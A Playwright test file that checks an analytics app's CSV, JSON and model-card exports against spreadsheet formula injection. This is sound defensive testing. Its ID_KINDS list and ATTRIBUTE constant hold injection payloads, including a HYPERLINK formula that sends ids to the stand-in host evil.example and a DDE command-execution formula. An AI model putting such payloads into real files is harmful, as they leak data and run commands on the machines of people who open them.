// A crafted file cannot turn our exports into spreadsheet formulas (OWASP "CSV injection"): an
// event log whose customer ids, and a profile attribute whose name, start formulas is trained on,
// and the scores CSV, the training matrix, the JSON and the model card are read back.
import { expect, test } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { generateDemo } from '../../src/lib/engine/demo/generate';
import { restoreCsvText } from '../../src/lib/engine/export/csv-field';
import { mdText } from '../../src/lib/engine/export/markdown';
import { parseCsv, startsFormula } from '../helpers/csv';
import {
	continueToGoal,
	downloadCsv,
	openApp,
	trainAndWait,
	uploadEvents,
	watchOrigins
} from './helpers';

/** Ways to make an id a formula: each trigger character, a real payload, and two harmless ones. */
const ID_KINDS: ((id: string, n: number) => string)[] = [
	(id) => `=${id}`,
	(id) => `+${id}`,
	(id) => `-${id}`,
	(id) => `@${id}`,
	(id) => `\t=${id}`,
	(id) => `\r=${id}`,
	(id) => `=HYPERLINK("http://evil.example/?"&"${id}","open")`,
	(id) => `=cmd|' /C calc'!${id}`,
	(id) => `－${id}`,
	(id) => `'=${id}`,
	(_, n) => `-${n}`,
	(id) => id
];
const ATTRIBUTE = '=HYPERLINK("http://evil.example/?"&A1,"Loyalty <b>tier</b>")';

const cell = (s: string) => (/[",\r\n\t]/.test(s) ? `"${s.replaceAll('"', '""')}"` : s);

/** The demo's events and profiles with every id made formula-like and the tier column renamed. */
function hostileDemo() {
	const demo = generateDemo({ customers: 2000, seed: 13 });
	const ids = new Map<string, string>();
	const kindOf = new Map<string, number>();
	const hostile = (id: string) => {
		let h = ids.get(id);
		if (h === undefined) {
			const n = ids.size;
			h = ID_KINDS[n % ID_KINDS.length]!(id, n);
			ids.set(id, h);
			kindOf.set(h, n % ID_KINDS.length);
		}
		return h;
	};
	const rewrite = (text: string, idColumn: number, header?: string) =>
		text
			.trimEnd()
			.split('\n')
			.map((line, i) => {
				if (i === 0) return header ?? line;
				const cells = line.split(',');
				cells[idColumn] = hostile(cells[idColumn]!);
				return cells.map(cell).join(',');
			})
			.join('\n') + '\n';
	// Profiles first, so the kinds go round the customers in the profile file's order.
	const header = ['ecid', 'country', ATTRIBUTE, 'signupDate', 'marketingOptIn', 'email'];
	const profiles = rewrite(demo.profilesCsv, 0, header.map(cell).join(','));
	const events = rewrite(demo.eventsCsv, 1);
	const customers = new Set(
		demo.eventsCsv
			.trimEnd()
			.split('\n')
			.slice(1)
			.map((l) => l.split(',')[1])
	);
	return { events, profiles, kindOf, customers: customers.size };
}

/** Every cell of a CSV read back: none starts a formula unless it is a number; how many. */
function expectNoFormula(table: string[][], columns: number): number {
	let checked = 0;
	const bad: string[] = [];
	for (const row of table) {
		if (row.length !== columns) bad.push(`row of ${row.length} cells: ${JSON.stringify(row)}`);
		for (const c of row) {
			if (startsFormula(c)) bad.push(JSON.stringify(c));
			checked++;
		}
	}
	expect(bad.slice(0, 10)).toEqual([]);
	return checked;
}

test('formula-like ids and attribute names: no CSV cell starts a formula, ids read back exactly', async ({
	page,
	context,
	baseURL
}) => {
	const foreign = watchOrigins(context, new URL(baseURL!).origin);
	const { events, profiles, kindOf, customers } = hostileDemo();
	await openApp(page);
	await uploadEvents(page, {
		name: 'hostile-events.csv',
		mimeType: 'text/csv',
		buffer: Buffer.from(events)
	});
	await expect(page.getByRole('heading', { name: 'hostile-events.csv', level: 2 })).toBeVisible({
		timeout: 60_000
	});
	await expect(page.getByTestId('q-profiles')).toHaveText(customers.toLocaleString('en-US'));
	await page.getByTestId('profiles-file').setInputFiles({
		name: 'hostile-profiles.csv',
		mimeType: 'text/csv',
		buffer: Buffer.from(profiles)
	});
	await expect(page.getByText('5 attributes, joined on')).toBeVisible({ timeout: 60_000 });
	await continueToGoal(page);
	await page.getByRole('checkbox', { name: ATTRIBUTE }).check();
	await trainAndWait(page);

	// The model card shows the attribute's name as text: no HTML, no link.
	const [cardDownload] = await Promise.all([
		page.waitForEvent('download'),
		page.getByRole('button', { name: 'Download the model card (Markdown)' }).click()
	]);
	const card = readFileSync(await cardDownload.path(), 'utf8');
	expect(card).toContain(`- Profile attributes used: ${mdText(ATTRIBUTE)}.`);
	expect(card).not.toContain('<b>');
	expect(card).not.toContain('http://evil');

	// The scores CSV: every cell checked, every id its original text once the ' is removed.
	const { text } = await downloadCsv(page);
	const [header, ...body] = parseCsv(text);
	const checked = expectNoFormula([header!, ...body], header!.length);
	expect(checked).toBe((body.length + 1) * header!.length);
	expect(body.length).toBeGreaterThan(500);
	const csvIds = body.map((r) => restoreCsvText(r[0]!));
	expect(csvIds.every((id) => kindOf.has(id))).toBe(true);
	expect(new Set(csvIds).size).toBe(body.length);
	// Every kind of formula-like id was exported, and each text kind came out neutralised.
	const kinds = new Set(csvIds.map((id) => kindOf.get(id)));
	expect(kinds.size).toBe(ID_KINDS.length);
	for (const r of body) {
		const kind = kindOf.get(restoreCsvText(r[0]!))!;
		expect(r[0]!.startsWith("'"), `id ${JSON.stringify(r[0])}`).toBe(kind < ID_KINDS.length - 2);
	}
	// The renamed attribute shows up among the factors, neutralised, and reads back.
	const names = body.flatMap((r) => [1, 2, 3].map((k) => r[header!.indexOf(`factor_${k}_name`)]!));
	const attributeNames = names.filter((n) => restoreCsvText(n).startsWith(ATTRIBUTE));
	expect(attributeNames.length).toBeGreaterThan(0);
	expect(attributeNames.every((n) => n.startsWith(`'${ATTRIBUTE}`))).toBe(true);
	console.log(`scores CSV: ${checked} cells checked, ${attributeNames.length} attribute factors`);

	// JSON holds the ids exactly as they are, in the same order.
	await page.getByTestId('export-format').selectOption('json');
	const [jsonDownload] = await Promise.all([
		page.waitForEvent('download'),
		page.getByRole('button', { name: /^Download JSON/ }).click()
	]);
	const records = JSON.parse(readFileSync(await jsonDownload.path(), 'utf8')) as {
		customer_id: string;
	}[];
	expect(records.map((r) => r.customer_id)).toEqual(csvIds);

	// The training matrix: the same rules, every row checked.
	await page.getByRole('button', { name: 'Train', exact: true }).click();
	const [matrixDownload] = await Promise.all([
		page.waitForEvent('download'),
		page.getByRole('button', { name: 'Download the training matrix (CSV)' }).click()
	]);
	const matrix = parseCsv(readFileSync(await matrixDownload.path(), 'utf8'));
	const matrixChecked = expectNoFormula(matrix, matrix[0]!.length);
	expect(matrixChecked).toBe(matrix.length * matrix[0]!.length);
	expect(matrix[0]).toContain(`attr:${ATTRIBUTE}=gold`);
	expect(matrix.slice(1).every((r) => kindOf.has(restoreCsvText(r[0]!)))).toBe(true);
	console.log(`matrix CSV: ${matrixChecked} cells checked`);
	expect(foreign).toEqual([]);
});
